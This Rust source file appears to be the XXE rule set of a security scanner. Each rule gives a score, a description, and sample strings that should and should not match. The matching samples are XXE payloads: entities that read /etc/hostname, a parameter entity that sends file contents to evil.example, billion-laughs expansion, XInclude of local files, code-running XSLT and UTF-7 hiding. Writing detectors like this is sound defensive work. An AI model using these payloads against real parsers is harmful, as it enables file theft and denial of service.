//! The rules.

use crate::detect::evidence::{Class, Rule};

/// Every rule of this class.
pub(in crate::detect) const ALL: &[&Rule] = &[
    &EXTERNAL_ENTITY,
    &PARAMETER,
    &INTERNAL,
    &GROWTH,
    &EXTERNAL_TYPE,
    &LOCAL_TYPE,
    &INCLUDE,
    &LOCAL_INCLUDE,
    &SCHEMA,
    &STYLE_CODE,
    &UTF7,
];

pub(super) static EXTERNAL_ENTITY: Rule = Rule::new(
    Class::Xxe,
    "xxe.external-entity",
    100,
    "declares an external entity",
    &[
        "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><r>&e;</r>",
        "<!ENTITY % remote PUBLIC \"any\" 'http://evil.example/x.dtd'>",
        "<!doctype r [ <!entity e system \"robots.txt\"> ]>",
    ],
    &["an <!ENTITY is declared like this", "<!ELEMENT note (to, from)>", "the SYSTEM entity"],
);

pub(super) static PARAMETER: Rule = Rule::new(
    Class::Xxe,
    "xxe.parameter-entity",
    100,
    "declares a parameter entity",
    &["<!ENTITY % a \"<!ENTITY &#37; b SYSTEM 'http://evil.example/?%file;'>\">", "<!ENTITY % file 'x'>"],
    &["<!ENTITY percent '%'>", "100 % <!important>"],
);

pub(super) static INTERNAL: Rule = Rule::new(
    Class::Xxe,
    "xxe.internal-entity",
    40,
    "declares an internal entity",
    &["<!DOCTYPE r SYSTEM \"r.dtd\" [<!ENTITY a \"1\"><!ENTITY b \"&a;&a;&a;&a;\">]>"],
    &["<!DOCTYPE svg [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">]><svg/>", "<!ENTITY nbsp \"&#160;\">"],
);

pub(super) static GROWTH: Rule = Rule::new(
    Class::Xxe,
    "xxe.growth",
    100,
    "declares an entity that expands exponentially or recursively (billion laughs)",
    &[
        "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">",
        "<!ENTITY a \"&b;\"><!ENTITY b \"x&b;\">",
    ],
    &["<!ENTITY legal \"&copy; 2024 &company;\">", "<!ENTITY nbsp \"&#160;&#160;&#160;&#160;\">"],
);

pub(super) static EXTERNAL_TYPE: Rule = Rule::new(
    Class::Xxe,
    "xxe.external-type",
    100,
    "has an external document type",
    &[
        "<!DOCTYPE x SYSTEM \"//evil.example/x\"><x/>",
        "<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/x.dtd\">",
    ],
    &[
        "<!DOCTYPE html>",
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
        "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
        "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
        "Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON",
    ],
);

pub(super) static LOCAL_TYPE: Rule = Rule::new(
    Class::Xxe,
    "xxe.local-type",
    60,
    "has a document type in a local file",
    &["<!DOCTYPE r SYSTEM \"r.dtd\" [<!ENTITY a \"1\">]>"],
    &["<!DOCTYPE note SYSTEM \"note.dtd\"><note/>"],
);

pub(super) static INCLUDE: Rule = Rule::new(
    Class::Xxe,
    "xxe.include",
    100,
    "includes another document (XInclude)",
    &[
        "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></foo>",
        "<xi:include href='http://evil.example/x.xml'/>",
    ],
    &["<include href=\"http://site.example/nav.html\"/>", "use <xi:include> to split a book"],
);

pub(super) static LOCAL_INCLUDE: Rule = Rule::new(
    Class::Xxe,
    "xxe.local-include",
    60,
    "includes a local document (XInclude)",
    &["<!DOCTYPE book [<!ENTITY v \"2\">]><book><xi:include href=\"secrets.xml\"/></book>"],
    &["<book><xi:include href=\"chapter1.xml\"/></book>"],
);

pub(super) static SCHEMA: Rule = Rule::new(
    Class::Xxe,
    "xxe.schema",
    60,
    "has a schema location without its namespace",
    &["<!DOCTYPE x [<!ENTITY a \"1\">]><x xsi:schemaLocation=\"http://evil.example/x\"/>"],
    &[
        "<x xsi:schemaLocation=\"http://evil.example/x\"/>",
        "<project xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd\">",
        "<x xsi:noNamespaceSchemaLocation=\"order.xsd\"/>",
    ],
);

pub(super) static STYLE_CODE: Rule = Rule::new(
    Class::Xxe,
    "xxe.style-code",
    100,
    "is an XSLT style sheet that runs code",
    &[
        "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\">",
        "<msxsl:script language=\"C#\" implements-prefix=\"u\">",
    ],
    &[
        "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">",
        "<xsl:include href=\"base.xsl\"/>",
    ],
);

pub(super) static UTF7: Rule = Rule::new(
    Class::Xxe,
    "xxe.utf7",
    100,
    "hides a declaration in UTF-7",
    &[
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY e SYSTEM +ACI-x+ACI +AD4AXQA+",
    ],
    &["<?xml version=\"1.0\" encoding=\"UTF-7\"?>", "1+ADwords-2"],
);
